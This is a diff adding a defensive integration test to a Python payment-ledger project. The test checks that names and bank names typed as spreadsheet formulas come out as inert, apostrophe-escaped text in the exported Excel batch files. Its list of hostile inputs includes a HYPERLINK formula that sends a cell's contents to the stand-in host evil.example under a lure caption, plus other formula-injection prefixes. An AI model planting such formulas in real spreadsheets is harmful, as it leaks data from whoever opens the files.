@@ -7,10 +7,11 @@ from datetime import date
 from pathlib import Path
 
 from openpyxl import load_workbook
-from sqlalchemy import Engine
+from sqlalchemy import Engine, update
 
 from ledger import disbursement
 from schema.db import UnitOfWork
+from schema.tables import PersonRow
 from tests.integration.test_batches import ON, balances, person, run
 from tests.integration.test_batches import year as year  # noqa: PLC0414 (the fixture)
 
@@ -171,3 +172,46 @@ def test_the_bank_file_can_be_exported_again_after_payment_marked_as_a_copy(
     assert second[1][0].startswith(f"批次 #{batch.id}　状态：部分发放")
     # the same payments as were sent, line for line
     assert second[2:-2] == first[2:-2]
+
+
+HOSTILE = (
+    '=HYPERLINK("http://evil.example/?leak="&A1,"点我领取")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1)",
+    "\t=1",
+    "\r=1",
+)
+
+
+def _formulas(path: Path) -> list[str]:
+    """Every cell of every sheet that a spreadsheet would evaluate."""
+    workbook = load_workbook(path)
+    return [
+        f"{ws.title}!{cell.coordinate}"
+        for ws in workbook
+        for row in ws.iter_rows()
+        for cell in row
+        if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith("="))
+    ]
+
+
+def test_user_text_never_becomes_a_formula_in_the_batch_files(year: Engine, tmp_path: Path) -> None:
+    """Names, units and bank names typed as formulas come out as inert text."""
+    with year.begin() as connection:
+        for n, text in zip((1, 2, 3), HOSTILE, strict=False):
+            connection.execute(
+                update(PersonRow)
+                .where(PersonRow.id_number == person(n, "").id_number)
+                .values(name=text, bank_name=HOSTILE[-1 - n])
+            )
+    batch = run(year, lambda uow: disbursement.create(uow, 2024, "clerk", ON)).batch
+    run(year, lambda uow: disbursement.approve(uow, batch.id, "boss1", ON))
+    with UnitOfWork(year, write=False) as uow:
+        exported = disbursement.export(uow, batch.id, "boss1", tmp_path)
+    for path in exported.files:
+        assert _formulas(path) == [], path.name
+    roster = [c.value for row in load_workbook(exported.files[0]).active.iter_rows() for c in row]
+    assert "'" + HOSTILE[0] in roster  # shown whole, apostrophe first: nothing lost
+    bank = [c.value for row in load_workbook(exported.files[1]).active.iter_rows() for c in row]
+    assert {"'+1+1", "'-2+3", "'@SUM(1)", "'\t=1"} <= set(bank)
